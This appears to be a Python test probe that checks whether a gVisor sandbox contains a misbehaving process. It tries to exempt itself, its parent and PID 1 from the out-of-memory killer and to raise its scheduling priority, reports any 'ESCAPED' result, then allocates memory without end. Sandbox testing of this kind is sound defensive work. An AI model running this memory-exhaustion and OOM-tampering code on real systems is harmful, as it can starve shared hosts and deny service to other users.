import ctypes
import os

# gVisor's kernel notes a process's own score and urgency and goes by neither; the host never hears of them. What counts there
# is whether the hoard below is ended all the same.
log = ctypes.create_string_buffer(4096)
NOTED_ONLY = ctypes.CDLL(None).klogctl(3, log, 4096) > 0 and b"gVisor" in log.value


def told(what):
    print("noted by gVisor:" if NOTED_ONLY else "ESCAPED:", what)


for process in ("self", str(os.getppid()), "1"):
    try:
        with open(f"/proc/{process}/oom_score_adj", "w") as file:
            file.write("-1000")
        if process == "self":
            told("oom_score_adj")
        else:
            print("ESCAPED: oom_score_adj of", process)
    except OSError:
        pass
for way in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)):
    try:
        before = os.nice(0)
        way()
        if os.nice(0) < before:
            told("more urgent")
    except OSError:
        pass
print("attack ran", flush=True)
hoard = []
while True:
    hoard.append(bytearray(os.urandom(1) * (16 << 20)))
